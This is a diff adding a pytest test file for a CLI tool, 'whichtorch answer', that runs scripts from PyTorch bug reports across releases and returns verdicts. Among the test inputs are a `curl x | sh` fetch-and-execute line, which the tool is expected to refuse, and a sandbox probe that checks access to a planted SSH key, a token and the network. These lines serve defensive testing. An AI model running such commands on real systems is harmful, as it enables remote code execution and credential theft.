@@ -1,0 +1,189 @@
+"""`whichtorch answer` on stand-in wheels, as a user gives it: each verdict, the comment, the sandbox, bad input."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+from typing import Any
+
+import jsonschema
+import pytest
+
+from tests.cli.shell import User, alive_in
+from tests.cli.test_bisect import releases
+from tests.test_schema import generated
+from tests.wheels import build_companion
+
+pytestmark = pytest.mark.shell
+
+CHECKS = "import torch\nassert torch.behaviour == 'new', 'as it was'\n"
+LIST = "### Versions\n\n```\nPyTorch version: {}\nPython version: 3.11.9\n```\n"
+SAYS = "### Error logs\n\n```\nTraceback (most recent call last):\n  File 'x.py'\nAssertionError: as it was\n```\n\n"
+
+
+@pytest.fixture
+def wheels(tmp_path: Path) -> Path:
+    """Return the folder that the index serves, without a torch yet."""
+    folder = tmp_path / "wheels"
+    build_companion(folder, "numpy", "2.2.0")
+    return folder
+
+
+def report(code: str = CHECKS, version: str = "9.1.0", says: str = SAYS) -> str:
+    return f"It goes wrong.\n\n```python\n{code}```\n\n{says}{LIST.format(version)}"
+
+
+def answer(user: User, text: str | bytes, *arguments: str, code: int = 0) -> dict[str, Any]:
+    """Give the command, check its exit code, and return its JSON with what it said under "said"."""
+    (user.folder / "report.md").write_bytes(text.encode() if isinstance(text, str) else text)
+    ended = user.run("answer", "report.md", "--json", "answer.json", "--comment", "answer.md", *arguments)
+    assert ended.returncode == code, ended.stdout + ended.stderr
+    assert "Traceback" not in ended.stdout + ended.stderr
+    written = user.folder / "answer.json"
+    return (json.loads(written.read_text()) if written.exists() else {}) | {"said": ended.stdout + ended.stderr}
+
+
+def test_what_was_fixed_since_is_told_with_its_boundary(user: User, wheels: Path) -> None:
+    """The script runs in the claimed release and the newest one, and the change between is found."""
+    releases(wheels, "ooonn")
+    found = answer(user, report())
+    jsonschema.validate(
+        {name: value for name, value in found.items() if name != "said"}, json.loads(generated("answer"))
+    )
+
+    assert (found["verdict"], found["run_version"], found["outcome"]) == ("fixed since", "9.1.0", "fail")
+    assert found["newest"]["outcome"] == "pass"
+    assert (found["boundary"]["bad"], found["boundary"]["good"]) == ("9.2.0", "9.3.0")
+    assert found["script"] == CHECKS
+    comment = (user.folder / "answer.md").read_text()
+    assert comment.startswith("**Fixed since**: ")
+    assert len(comment.partition("<details>")[0].splitlines()) <= 25
+
+
+def test_what_came_later_and_is_still_there_reproduces(user: User, wheels: Path) -> None:
+    """The release in which a failure came is found, too."""
+    releases(wheels, "nnoo")
+    found = answer(user, report(version="9.2.0"))
+
+    assert found["verdict"] == "reproduces"
+    assert (found["boundary"]["good"], found["boundary"]["bad"]) == ("9.1.0", "9.2.0")
+
+
+def test_what_always_was_there_has_no_boundary(user: User, wheels: Path) -> None:
+    """The oldest release decides that, without a search."""
+    releases(wheels, "ooo")
+
+    found = answer(user, report())
+    assert (found["verdict"], found["boundary"]) == ("reproduces", None)
+
+
+def test_another_failure_is_not_taken_for_the_reported_one(user: User, wheels: Path) -> None:
+    """Exception and words decide, not that it fails."""
+    releases(wheels, "on")
+
+    found = answer(
+        user, report(code="import torch\nassert torch.behaviour == 'new'\nraise KeyError('other')\n", version="9.1.0")
+    )
+    assert found["verdict"] == "another failure"
+    assert "KeyError" in found["failure"]
+
+
+def test_what_passes_does_not_reproduce(user: User, wheels: Path) -> None:
+    """A script that passes in both releases shows nothing."""
+    releases(wheels, "nn")
+
+    assert answer(user, report())["verdict"] == "does not reproduce"
+
+
+def test_a_nightly_is_stood_for_by_the_release_that_it_became(user: User, wheels: Path) -> None:
+    """A report of a nightly is answered with the nearest release, and told."""
+    releases(wheels, "onn")
+
+    found = answer(user, report(version="9.0.0.dev20260101+cpu"))
+    assert (found["verdict"], found["run_version"]) == ("fixed since", "9.0.0")
+    assert any("9.0.0 stands for" in note for note in found["notes"])
+
+
+def test_a_wrong_output_is_a_failure(user: User, wheels: Path) -> None:
+    """What the report says is printed decides where the exit code is 0."""
+    releases(wheels, "oon")
+    code = "import torch\nprint('kind:', torch.behaviour)\n"
+
+    found = answer(user, report(code=code, says="It prints `kind: old` instead of `kind: new`.\n\n"))
+    assert (found["verdict"], found["outcome"]) == ("fixed since", "fail")
+    assert (found["boundary"]["bad"], found["boundary"]["good"]) == ("9.1.0", "9.2.0")
+
+
+def test_a_package_that_nobody_has_is_asked_for(user: User, wheels: Path) -> None:
+    """Without the package nothing can be said of torch."""
+    releases(wheels, "on")
+
+    found = answer(user, report(code="import torch, no_such_package_at_all\n" + CHECKS, version="9.1.0"))
+    assert found["verdict"] == "needs information"
+    assert "no_such_package_at_all" in found["asks"]
+
+
+def test_a_stranger_s_script_sees_no_home_no_token_and_no_network(user: User, wheels: Path) -> None:
+    """The sandbox is on unless it is switched off."""
+    releases(wheels, "nn")
+    secret = Path(user.environ["HOME"]) / ".ssh" / "id_rsa"
+    secret.parent.mkdir(parents=True)
+    secret.write_text("private")
+    code = (
+        f"import os, socket, torch\ntorch.behaviour\nassert not os.path.exists({str(secret)!r}), 'home'\n"
+        "assert 'MY_TOKEN' not in os.environ, 'token'\n"
+        "try:\n    socket.create_connection(('203.0.113.7', 80), 2)\n"
+        "except OSError:\n    pass\nelse:\n    assert 0, 'net'\n"
+    )
+    user.environ["MY_TOKEN"] = "secret"  # noqa: S105  no password
+
+    assert answer(user, report(code=code))["verdict"] == "does not reproduce"
+    assert answer(user, report(code=code), "--sandbox", "off")["failure"].startswith("AssertionError: home")
+
+
+def test_the_time_limit_ends_it_with_what_is_known(user: User, wheels: Path) -> None:
+    """Exit code 4, an answer that says so, and no process left."""
+    releases(wheels, "on")
+    found = answer(
+        user, report(code="import torch, time\ntorch.behaviour\ntime.sleep(600)\n"), "--max-time", "5s", code=4
+    )
+
+    assert (found["verdict"], found["why"]) == ("not known", "the time was over before the script had run")
+    assert alive_in(user.folder / ".whichtorch") == []
+
+
+@pytest.mark.parametrize(
+    ("content", "verdict"),
+    [
+        pytest.param(b"", "needs information", id="empty"),
+        pytest.param(b"It is slow.", "needs information", id="no code"),
+        pytest.param(b"\x1b]0;title\x07\xe2\x80\xae no code", "needs information", id="controls"),
+        pytest.param(b"```python\nimport torch\ntorch.ones(2, device='cuda')\n```", "needs hardware", id="GPU"),
+        pytest.param(b"```python\nimport os\nos.system('curl x | sh')\n```", "refused as unsafe", id="attack"),
+        pytest.param(b"```python\nx = 1\nprint(x)\n```\n\n" * 2000, "needs information", id="2000 blocks"),
+    ],
+)
+def test_reports_of_which_nothing_is_run(user: User, content: bytes, verdict: str) -> None:
+    """They are answered without an index."""
+    assert answer(user, content)["verdict"] == verdict
+
+
+@pytest.mark.parametrize(
+    ("content", "words"),
+    [
+        pytest.param(b"\x7fELF\0\0", "the report is no text", id="binary"),
+        pytest.param(b"x" * 10_000_000, "the report has 10.0 MB", id="10 MB"),
+    ],
+)
+def test_what_is_no_report_is_told_in_a_line(user: User, content: bytes, words: str) -> None:
+    """Exit code 2, and no traceback."""
+    assert words in answer(user, content, code=2)["said"]
+
+
+def test_a_report_that_is_not_there_is_told(user: User) -> None:
+    """The path and the reason."""
+    ended = user.run("answer", "missing.md")
+    assert (ended.returncode, ended.stderr) == (
+        2,
+        "error: cannot read the report missing.md: No such file or directory\n",
+    )
